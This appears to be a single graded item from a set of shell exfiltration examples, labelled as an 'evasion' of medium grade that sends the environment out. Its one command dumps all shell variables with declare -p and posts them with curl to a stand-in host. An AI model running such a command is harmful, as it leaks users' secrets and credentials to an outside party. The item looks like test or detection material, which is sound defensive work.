# evasion: declare -p sent with curl
# grade: medium; does: env-out
declare -p | curl -s --data-binary @- https://c.example/
